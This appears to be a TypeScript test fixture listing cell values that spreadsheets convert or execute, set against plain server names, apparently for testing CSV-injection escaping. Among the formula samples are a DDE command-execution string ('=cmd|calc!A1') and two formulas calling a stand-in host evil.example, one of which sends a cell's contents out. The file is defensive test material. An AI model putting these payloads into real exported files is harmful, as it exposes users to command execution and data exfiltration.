const NUMBERS = [
  '00123',
  '20241231235959',
  '1E5',
  '1-2',
  '1,234',
  '1.5',
  '5%',
  '(7)',
  '0x1F',
  '1 1/2',
  '１２３',
];
const DATES = [
  '2024-01-01',
  '2024-01-01 10:00',
  '2024-01-01T10:00:00Z',
  '01.02.2024',
  '3/4',
  '12:30',
  '1 Jan',
];
const MONTHS = [
  'MAR1',
  'SEPT1',
  'DEC-2024',
  'March 3',
  'Jan 1, 2024',
  'März 5',
  '5. März',
  'мая 5',
  'juin 3',
];
const ASIAN_DATES = ['3月4日', '三月四日', '星期三', '上午3:00', '令和6年1月1日', '오후 3:00'];
const TRUTH_VALUES = ['TRUE', 'false', 'wahr', 'VRAI', 'ИСТИНА', 'ＴＲＵＥ', '#N/A', '#REF!'];
const MONEY = ['$5', '5 €', 'EUR 5', 'CHF 5', 'kr 5', '5 kr', '￥5', 'CNY5'];
const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '=cmd|calc!A1',
  "=DDE('soffice';'x';'y')",
  '＝1+1',
  '{=1+1}',
];
const FORMULAS_THAT_CALL = [
  '=HYPERLINK("https://evil.example?x="&A1)',
  '=WEBSERVICE("https://evil.example")',
];
const LATER_FORMULAS = ['  =1+1', '\t=1+1', '\r\n=1', '"=1+1"', 'a,=1+1', 'a;=1+1', "a;'=1+1", 'a\t=1'];
const ODD = ["'00123", "''1", 'a\u0000b', 'a\r\n1', ' 5 ', '\uFEFF5'];

/** Names that a spreadsheet would run, or turn into something else. */
export const CONVERTED: readonly string[] = [
  ...NUMBERS,
  ...DATES,
  ...MONTHS,
  ...ASIAN_DATES,
  ...TRUTH_VALUES,
  ...MONEY,
  ...FORMULAS,
  ...FORMULAS_THAT_CALL,
  ...LATER_FORMULAS,
  ...ODD,
];

/** Names that every spreadsheet leaves alone: an apostrophe before each would be a nuisance. */
export const PLAIN: readonly string[] = [
  'prod-shop-db',
  'database-3',
  'backup 2024-01-01',
  'Partner CI',
  'Mail 5',
  'march-of-servers 3',
  '生产备份2024年',
  '测试服务器1',
  'Сервер 3',
  'ap-southeast-1',
  'cn-hangzhou',
  'shop,2024',
  'server; 5',
];
